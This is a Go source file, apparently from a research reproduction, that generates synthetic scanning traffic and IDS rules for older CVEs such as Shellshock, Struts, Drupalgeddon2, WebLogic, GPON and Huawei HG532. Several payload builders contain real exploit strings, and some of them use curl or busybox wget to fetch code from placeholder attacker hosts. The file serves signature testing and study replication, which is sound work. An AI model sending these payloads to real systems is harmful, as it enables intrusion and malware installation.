@@ -1,0 +1,160 @@
+package scanner
+
+import (
+	"math/rand"
+	"strings"
+	"time"
+
+	"repro/internal/rules"
+)
+
+// Legacy exploitation. The paper observes that "the vast majority of
+// scanning traffic is likely targeting longstanding vulnerabilities or
+// weaknesses not related to specific software bugs" — of 15 M contacting
+// IPs, only 3.6 k targeted NEW CVEs. Its methodology therefore filters
+// signatures to CVEs *published during the study period* before analysis.
+//
+// This file supplies the other side of that filter: signatures and traffic
+// for notorious pre-study CVEs (Shellshock, Struts, Drupalgeddon, GPON
+// routers, ...) that real telescopes see constantly. The full ruleset
+// matches them; the study pipeline then excludes them by publication
+// window, reproducing the paper's filtering step with something real to
+// filter out.
+
+// legacySIDBase numbers the legacy signatures.
+const legacySIDBase = 800001
+
+// LegacyExploits returns exploit definitions for longstanding CVEs
+// (published before the study window).
+func LegacyExploits() []Exploit {
+	var out []Exploit
+	add := func(cve string, port uint16, sid int, msg string, options string, craft func(rng *rand.Rand) []byte) {
+		out = append(out, Exploit{
+			CVE:   cve,
+			Port:  port,
+			SID:   sid,
+			Rule:  ruleText(msg, cve, sid, port, options),
+			Craft: craft,
+		})
+	}
+	add("2014-6271", 80, legacySIDBase, "OS-OTHER Bash CGI environment variable injection attempt (Shellshock)",
+		content("() { :;};", ""),
+		func(rng *rand.Rand) []byte {
+			return httpGet("/cgi-bin/status", "User-Agent: () { :;}; /bin/bash -c 'curl http://"+pick(rng, evilHosts)+"/sh'")
+		})
+	add("2017-5638", 8080, legacySIDBase+1, "SERVER-APACHE Apache Struts Jakarta multipart parser command injection",
+		content("%{(#_='multipart/form-data')", "http_header"),
+		func(rng *rand.Rand) []byte {
+			return httpGet("/struts2-showcase/index.action",
+				"Content-Type: %{(#_='multipart/form-data').(#cmd='id').(#ros=@org.apache.struts2.ServletActionContext@getResponse())}")
+		})
+	add("2017-9841", 80, legacySIDBase+2, "SERVER-WEBAPP PHPUnit eval-stdin remote code execution attempt",
+		content("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			return httpPost("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo(md5('pwn')); ?>")
+		})
+	add("2017-17215", 37215, legacySIDBase+3, "SERVER-WEBAPP Huawei HG532 command injection attempt (Mirai/Satori)",
+		content("<NewStatusURL>$(", "http_client_body"),
+		func(rng *rand.Rand) []byte {
+			body := `<?xml version="1.0"?><s:Envelope><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g ` + pick(rng, evilHosts) + ` -l /tmp/.m -r /m)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>`
+			return httpPost("/ctrlt/DeviceUpgrade_1", body, "Content-Type: text/xml")
+		})
+	add("2018-7600", 80, legacySIDBase+4, "SERVER-WEBAPP Drupal 8 remote code execution attempt (Drupalgeddon2)",
+		content("/user/register?element_parents=account/mail", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			return httpPost("/user/register?element_parents=account/mail%2F%23value&ajax_form=1&_wrapper_format=drupal_ajax",
+				"form_id=user_register_form&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")
+		})
+	add("2018-10561", 8080, legacySIDBase+5, "SERVER-WEBAPP Dasan GPON router authentication bypass attempt",
+		content("/GponForm/diag_Form?images/", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			return httpPost("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://"+pick(rng, evilHosts)+"/g`")
+		})
+	add("2019-2725", 7001, legacySIDBase+6, "SERVER-WEBAPP Oracle WebLogic async deserialization attempt",
+		content("/_async/AsyncResponseService", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			body := `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>`
+			return httpPost("/_async/AsyncResponseService", body, "Content-Type: text/xml")
+		})
+	add("2019-19781", 443, legacySIDBase+7, "SERVER-WEBAPP Citrix ADC directory traversal attempt (Shitrix)",
+		content("/vpn/../vpns/", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			return httpGet("/vpn/../vpns/cfg/smb.conf")
+		})
+	add("2016-6277", 80, legacySIDBase+8, "SERVER-WEBAPP NETGEAR router command injection attempt",
+		content("/cgi-bin/;", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			return httpGet("/cgi-bin/;killall$IFS'httpd'")
+		})
+	add("2020-25078", 80, legacySIDBase+9, "SERVER-WEBAPP D-Link DCS camera credential disclosure attempt",
+		content("/config/getuser?index=0", "http_uri"),
+		func(rng *rand.Rand) []byte {
+			return httpGet("/config/getuser?index=0")
+		})
+	return out
+}
+
+// legacyPublication dates the legacy signatures: all long-available before
+// the study window (rule age tracks CVE age plus a short lag).
+var legacyPublication = map[string]time.Time{
+	"2014-6271":  mustDateLegacy("2014-09-25"),
+	"2017-5638":  mustDateLegacy("2017-03-08"),
+	"2017-9841":  mustDateLegacy("2017-07-10"),
+	"2017-17215": mustDateLegacy("2017-12-20"),
+	"2018-7600":  mustDateLegacy("2018-03-29"),
+	"2018-10561": mustDateLegacy("2018-05-04"),
+	"2019-2725":  mustDateLegacy("2019-04-27"),
+	"2019-19781": mustDateLegacy("2019-12-18"),
+	"2016-6277":  mustDateLegacy("2016-12-10"),
+	"2020-25078": mustDateLegacy("2020-09-02"),
+}
+
+func mustDateLegacy(s string) time.Time {
+	t, err := time.Parse("2006-01-02", s)
+	if err != nil {
+		panic(err)
+	}
+	return t
+}
+
+// LegacyRuleset builds the dated legacy signatures.
+func LegacyRuleset() ([]rules.DatedRule, error) {
+	var out []rules.DatedRule
+	for _, ex := range LegacyExploits() {
+		r, err := rules.Parse(ex.Rule)
+		if err != nil {
+			return nil, err
+		}
+		out = append(out, rules.DatedRule{Rule: r, Published: legacyPublication[ex.CVE]})
+	}
+	return out, nil
+}
+
+// FullRuleset is the unfiltered signature set a real deployment evaluates:
+// study-window CVEs plus longstanding ones. The paper's methodology filters
+// this to in-window CVEs before analysis.
+func FullRuleset() ([]rules.DatedRule, error) {
+	study, err := StudyRuleset()
+	if err != nil {
+		return nil, err
+	}
+	legacy, err := LegacyRuleset()
+	if err != nil {
+		return nil, err
+	}
+	return append(study, legacy...), nil
+}
+
+// craftLegacy produces one legacy-scanning payload.
+func craftLegacy(rng *rand.Rand) (payload []byte, port uint16, cve string, sid int) {
+	exs := LegacyExploits()
+	ex := exs[rng.Intn(len(exs))]
+	return ex.Craft(rng), ex.Port, ex.CVE, ex.SID
+}
+
+// isLegacyCVE reports whether a CVE id predates the study window (by
+// year; the study window opens in March 2021, and no studied CVE carries a
+// pre-2021 identifier).
+func isLegacyCVE(cve string) bool {
+	return strings.HasPrefix(cve, "201") || strings.HasPrefix(cve, "2020-")
+}
